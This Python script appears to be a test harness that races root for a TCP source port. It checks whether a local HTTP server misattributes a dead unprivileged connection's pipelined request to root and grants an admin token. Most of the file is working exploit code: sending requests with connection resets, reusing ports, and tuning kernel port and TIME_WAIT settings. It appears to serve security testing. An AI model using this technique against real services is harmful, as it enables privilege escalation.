"""A user races root for a source port, in a network namespace of its own.

usage: unshare --net python3 -B stolen_port.py SERVER FOLDER TRIES

In each try, a user connects from a port, sends a whole request and the beginning of another, and resets the
connection. Root then connects from the same port. If the server looks up the owner of the dead connection now, the
kernel names root. The request makes an administrator's token, which the server grants to root alone: each token
made is one try that succeeded. Prints one line of JSON.
"""

import json
import os
import pathlib
import socket
import struct
import subprocess
import sys
import time

USER = 65534
PORTS = range(40000, 40064)
MAKE = json.dumps({"scope": "admin", "note": "stolen"}).encode()
NO_LINGER = struct.pack("ii", 1, 0)


def request(method, path, body=b""):
    head = f"{method} {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    return f"{head}Content-Length: {len(body)}\r\n\r\n".encode() + body


def opened(port, uid=0):
    """A socket of a user, on a port that others may share."""
    os.seteuid(uid)
    try:
        one = socket.socket()
    finally:
        os.seteuid(0)
    one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    # With this option, closing the socket resets the connection.
    one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, NO_LINGER)
    one.settimeout(20)
    if port:
        one.bind(("127.0.0.1", port))
    return one


def answer(one, asked):
    """Status and body of the answer to a request."""
    one.sendall(asked)
    got = b""
    while True:
        head, end, body = got.partition(b"\r\n\r\n")
        fields = dict(line.lower().split(b": ", 1) for line in head.split(b"\r\n")[1:] if b": " in line)
        if end and len(body) >= int(fields.get(b"content-length", 0)):
            return int(head.split()[1]), body
        more = one.recv(65536)
        if not more:
            raise SystemExit(f"the server ended the connection after {got!r}")
        got += more


def ask(server, uid, asked):
    one = opened(0, uid)
    one.connect(server)
    told = answer(one, asked)
    one.close()
    return told


def fixed(server, port, attack):
    """The user resets, and root takes the very port."""
    user, root = opened(port, USER), opened(port)
    user.connect(server)
    user.send(attack)
    user.close()
    root.connect(server)
    return root


def drawn(server, attack):
    """The user resets connections from many ports, and root gets whichever the kernel draws."""
    users = [opened(0, USER) for _ in range(8)]
    for user in users:
        user.connect(server)
        user.send(attack)
    for user in users:
        user.close()
    root = opened(0)
    root.connect(server)
    return root


def main():
    program, folder, tries = sys.argv[1], pathlib.Path(sys.argv[2]), int(sys.argv[3])
    subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
    pathlib.Path("/proc/sys/net/ipv4/ip_local_port_range").write_text(f"{PORTS[0]} {PORTS[-1]}")
    # Attempts are faster than the kernel's removal of connections in TIME_WAIT.
    pathlib.Path("/proc/sys/net/ipv4/tcp_max_tw_buckets").write_text("0")
    command = [program, "--data", folder / "data", "--listen", "127.0.0.1:8790"]
    running = subprocess.Popen(command, stdout=subprocess.PIPE, text=True)
    try:
        while not (line := running.stdout.readline()).startswith("ready: "):
            if not line:
                raise SystemExit("the server ended before it was ready")
        server = ("127.0.0.1", 8790)
        make = request("POST", "/api/v1/tokens", MAKE)
        who = request("GET", "/api/v1/me")
        attack = make + make[:-1]
        refused, _ = ask(server, USER, make)
        granted, _ = ask(server, 0, make)
        wrong = 0
        for i in range(tries):
            root = drawn(server, attack) if i % 10 == 9 else fixed(server, PORTS[i % len(PORTS)], attack)
            status, body = answer(root, who)
            root.close()
            wrong += status != 200 or json.loads(body).get("uid") != 0
        # Wait for the requests in flight.
        time.sleep(0.3)
        _, body = ask(server, 0, request("GET", "/api/v1/tokens"))
        tokens = [token for token in json.loads(body) if token["scope"] == "admin"]
        _, metrics = ask(server, 0, request("GET", "/metrics"))
        gone = [line for line in metrics.decode().splitlines() if 'outcome="gone"' in line]
        print(json.dumps({
            "user": refused, "root": granted, "tries": tries, "as_root": len(tokens) - 1,
            "root_not_known": wrong, "gone": float(gone[0].split()[-1]) if gone else 0.0,
        }))
    finally:
        running.terminate()
        running.wait(20)


main()
